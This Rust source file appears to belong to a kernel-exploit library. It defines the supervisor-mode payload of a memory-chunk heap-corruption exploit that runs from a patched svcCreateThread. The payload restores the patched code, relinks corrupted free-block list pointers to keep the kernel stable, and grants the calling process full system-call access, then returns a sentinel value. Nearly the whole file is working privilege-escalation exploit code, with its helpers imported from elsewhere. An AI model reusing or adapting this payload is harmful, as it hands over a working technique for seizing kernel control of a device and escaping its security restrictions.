use khax_core::grant::grant_full_svc_access;
use khax_core::kernel::{KernelContext, patch_code, with_interrupts_disabled};
use khax_core::memory::KernelAddr;
use khax_core::memory::free_block::{NEXT_OFFSET, PREV_OFFSET};
use khax_core::session;
use khax_core::version::THREAD_PATCH_ORIGINAL;
use std::sync::atomic::{AtomicU32, Ordering};

/// Value the payload returns through svcCreateThread on success.
pub const PAYLOAD_SENTINEL: u32 = 0x1337_C0DE;

/// Kernel addresses the payload repairs, filled in before the corrupting write.
#[derive(Debug, Default)]
pub(crate) struct MemChunkFixups {
    patch: AtomicU32,
    page1: AtomicU32,
    page4: AtomicU32,
}

impl MemChunkFixups {
    pub(crate) fn new(patch: KernelAddr) -> Self {
        let fixups = Self::default();
        fixups.patch.store(patch.as_u32(), Ordering::SeqCst);
        fixups
    }

    pub(crate) fn set_pages(&self, page1: KernelAddr, page4: KernelAddr) {
        self.page1.store(page1.as_u32(), Ordering::SeqCst);
        self.page4.store(page4.as_u32(), Ordering::SeqCst);
    }

    fn get(&self) -> (KernelAddr, KernelAddr, KernelAddr) {
        (
            KernelAddr::new(self.patch.load(Ordering::SeqCst)),
            KernelAddr::new(self.page1.load(Ordering::SeqCst)),
            KernelAddr::new(self.page4.load(Ordering::SeqCst)),
        )
    }
}

/// Entered from the patched svcCreateThread in supervisor mode.
///
/// Returns 0 when no session is registered, which the caller cannot mistake
/// for the sentinel.
pub(crate) fn memchunk_kernel_payload(k: &mut dyn KernelContext, _: u32) -> u32 {
    // SAFETY: only reachable through the trigger step of the registered session.
    let Some(shared) = (unsafe { session::current() }) else {
        return 0;
    };
    let Some(fixups) = shared.fixups::<MemChunkFixups>() else {
        return 0;
    };
    let (patch, page1, page4) = fixups.get();
    with_interrupts_disabled(k, |k| {
        patch_code(k, patch, &THREAD_PATCH_ORIGINAL);
        shared.corruption().lower(1);

        // The coalesced block starting at page 1 still links to the patch
        // site, and page 4 still points back at the vanished page 2.
        k.write_u32(page1.wrapping_add(NEXT_OFFSET as u32), page4.as_u32());
        k.write_u32(page4.wrapping_add(PREV_OFFSET as u32), page1.as_u32());
        k.data_sync_barrier();
        shared.corruption().lower(2);

        grant_full_svc_access(k, shared.descriptor().layout, shared.acl());
        shared.set_payload_ran();
    });
    PAYLOAD_SENTINEL
}
